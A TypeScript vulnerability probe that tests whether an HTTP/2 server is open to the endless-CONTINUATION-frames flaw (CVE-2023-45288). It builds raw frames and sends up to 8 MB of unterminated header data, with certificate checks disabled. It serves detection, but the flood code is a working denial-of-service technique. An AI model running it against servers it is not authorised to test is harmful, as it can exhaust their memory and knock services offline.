import { connect } from 'node:tls';

const LIMIT_BYTES = 8 * 1024 * 1024;
/** How long to wait for an answer after that. */
const TIMEOUT_MS = 2_000;
/** RFC 9113, section 6. */
const FRAME_TYPES = { headers: 1, reset: 3, settings: 4, goAway: 7, continuation: 9 };

/** Returns an HTTP/2 frame (RFC 9113, section 4.1). */
function frame(type: keyof typeof FRAME_TYPES, streamId: number, payload = Buffer.alloc(0)) {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(FRAME_TYPES[type], 3);
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
}

/** Returns the types of the frames in the data that a server sent. */
function* frameTypes(data: Buffer) {
  for (let at = 0; at + 9 <= data.length; at += 9 + data.readUIntBE(at, 3)) yield data[at + 3];
}

/**
 * Sends HTTP/2 request headers that never end (CVE-2023-45288), until the server rejects them with a response
 * or an error, or closes the connection.
 * @returns whether the server accepts 8 MB of them
 */
export function acceptsEndlessHeaders(origin: string, servername: string): Promise<boolean> {
  const { hostname, port } = new URL(origin);
  const options = { servername, ALPNProtocols: ['h2'], rejectUnauthorized: false };
  return new Promise((resolve) => {
    const socket = connect({ host: hostname, port: Number(port), ...options });
    // A header field of five bytes, `a: b`, as a literal without an index (RFC 7541, section 6.2.2).
    const payload = Buffer.alloc(16_000, Buffer.from([0, 1, 0x61, 1, 0x62]));
    const finish = (isAccepted: boolean) => {
      socket.destroy();
      resolve(isAccepted);
    };
    let sent = 0;
    const send = () => {
      while (sent < LIMIT_BYTES) {
        sent += payload.length;
        if (!socket.write(frame('continuation', 1, payload))) return;
      }
      socket.setTimeout(TIMEOUT_MS, () => finish(true));
    };
    socket.once('secureConnect', () => {
      socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
      socket.write(frame('settings', 0));
      socket.write(frame('headers', 1, payload));
      socket.on('drain', send);
      send();
    });
    let received = Buffer.alloc(0);
    const rejections: unknown[] = [FRAME_TYPES.headers, FRAME_TYPES.reset, FRAME_TYPES.goAway];
    socket.on('data', (data: Buffer) => {
      received = Buffer.concat([received, data]);
      if ([...frameTypes(received)].some((type) => rejections.includes(type))) finish(false);
    });
    socket.on('error', () => {});
    socket.on('close', () => resolve(false));
  });
}
